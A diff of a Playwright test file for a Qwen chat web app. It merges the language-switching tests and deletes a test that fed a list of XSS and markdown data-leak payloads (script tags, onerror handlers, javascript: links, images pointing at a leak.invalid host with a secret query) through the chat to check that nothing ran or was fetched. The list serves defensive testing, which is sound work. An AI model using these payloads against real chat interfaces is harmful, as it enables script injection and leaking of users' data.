@@ -6,7 +6,7 @@ import anyio
 import pytest
 from playwright.async_api import Browser, Page, Request, expect
 
-from qwen_app.testing.scripted_engine import Script, ScriptedEngine
+from qwen_app.testing.scripted_engine import ScriptedEngine
 from tests.browser.chat_page import ChatPage, hold_requests
 from tests.browser.conftest import OpenChat
 from tests.browser.serving import running_page
@@ -14,18 +14,8 @@ from tests.browser.serving import running_page
 pytestmark = pytest.mark.anyio
 
 
-async def test_switching_keeps_the_chat_and_is_remembered(scripted: str, open_chat: OpenChat) -> None:
-    chat = await open_chat(scripted)
-    await chat.ask("hello")
-    await chat.page.locator("#language").get_by_text("中文").click()
-    await expect(chat.page.locator(".chats-new")).to_have_text("＋ 新对话")
-    await expect(chat.runs.first).to_contain_text("已完成")
-    await expect(chat.answers.first).to_contain_text("You said: hello")
-    await chat.page.reload()
-    await expect(chat.page.locator(".chats-new")).to_have_text("＋ 新对话")
-
-
-async def test_a_language_chosen_while_the_page_asks_for_the_visitors_stays(scripted: str, open_chat: OpenChat) -> None:
+async def test_the_language_chosen_last_stays(scripted: str, open_chat: OpenChat) -> None:
+    """Be it while the page asks for the visitor's, or back and forth; and the page comes to rest."""
     chat = await open_chat(scripted)
     go = await hold_requests(chat.page, "**/gradio_api/run/predict*")
     await chat.page.reload()
@@ -36,17 +26,17 @@ async def test_a_language_chosen_while_the_page_asks_for_the_visitors_stays(scri
     await expect(chat.page.locator(".chats-new")).to_have_text("＋ 新对话")
     await expect(chat.page.get_by_role("radio", name="中文")).to_be_checked()
     await expect(chat.page.locator("#about h1")).to_have_text("与 Qwen 对话")
-
-
-async def test_who_switches_back_and_forth_gets_the_last_language_and_peace(scripted: str, open_chat: OpenChat) -> None:
-    chat = await open_chat(scripted)
+    await chat.ask("hello")
+    await expect(chat.runs.first).to_contain_text("已完成")
     go = await hold_requests(chat.page, "**/gradio_api/queue/join*")
-    for language in ("中文", "EN", "中文"):
+    for language in ("EN", "中文", "EN"):
         await chat.page.locator("#language").get_by_text(language).click()
     go.set()
     await quiet(chat.page)
-    await expect(chat.page.locator(".chats-new")).to_have_text("＋ 新对话")
-    await expect(chat.meter).to_contain_text("个词元")
+    await expect(chat.page.locator(".chats-new")).to_have_text("＋ New chat")
+    await expect(chat.meter).to_contain_text("tokens")
+    await expect(chat.runs.first).to_contain_text("Finished")
+    await expect(chat.answers.first).to_contain_text("You said: hello")
 
 
 async def quiet(page: Page, still_s: float = 1.0) -> None:
@@ -59,43 +49,6 @@ async def quiet(page: Page, still_s: float = 1.0) -> None:
             await anyio.sleep(still_s)
             if len(asked) == before:
                 return
-
-
-HOSTILE = [
-    "<img src=x onerror=\"document.body.dataset.hit='1'\">",
-    "<script>document.body.dataset.hit='1'</script>",
-    '<svg onload="document.body.dataset.hit=1"></svg>',
-    "<style>body{display:none}</style>",
-    "[click](javascript:document.body.dataset.hit=1)",
-    "![leak](http://leak.invalid/?q=secret)",
-    "![leak][1]\n\n[1]: http://leak.invalid/2",
-    "```mermaid\ngraph TD; A[<img src=http://leak.invalid/3>]-->B\n```",
-    "$$\\href{javascript:document.body.dataset.hit=1}{x}$$",
-    '<iframe src="http://leak.invalid/4"></iframe>',
-    "    ```\n![leak](http://leak.invalid/5)\n    ```",
-    "\\`![leak](http://leak.invalid/6)\\`",
-]
-
-
-async def test_hostile_text_runs_nothing_and_fetches_nothing(browser: Browser) -> None:
-    outside: list[str] = []
-
-    def note(request: Request) -> None:
-        if "127.0.0.1" not in request.url and not request.url.startswith(("data:", "blob:")):
-            outside.append(request.url)
-
-    engine = ScriptedEngine(Script(text=["Text first.\n\n" + "\n\n".join(HOSTILE)]))
-    with running_page(engine) as url:
-        context = await browser.new_context()
-        page = await context.new_page()
-        page.on("request", note)
-        chat = await ChatPage(page).open(url)
-        answer = await chat.ask("\n\n".join(HOSTILE))
-        await expect(answer).to_contain_text("script>document.body")
-        await expect(answer.locator("img, svg[id^=mermaid], iframe, style, script")).to_have_count(0)
-        assert await page.evaluate("document.body.dataset.hit") is None
-        await context.close()
-    assert outside == []
 
 
 async def test_copying_works_without_https(scripted: str, browser: Browser) -> None:
